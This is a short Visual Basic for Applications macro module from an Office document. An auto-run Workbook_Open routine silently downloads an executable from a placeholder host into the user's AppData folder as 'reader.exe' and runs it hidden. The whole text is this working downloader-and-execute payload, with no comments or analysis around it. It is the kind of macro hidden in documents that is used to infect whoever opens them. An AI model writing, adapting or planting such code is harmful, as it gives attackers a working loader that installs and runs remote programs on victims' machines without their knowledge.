Attribute VB_Name = "ThisDocument"

Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal c As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As LongPtr) As Long
Sub Workbook_Open()
    Dim f As String
    f = Environ("APPDATA") & "\" & "reader" & ".exe"
    URLDownloadToFile 0, "http://host.example/r", f, 0, 0
    Shell f, vbHide
End Sub
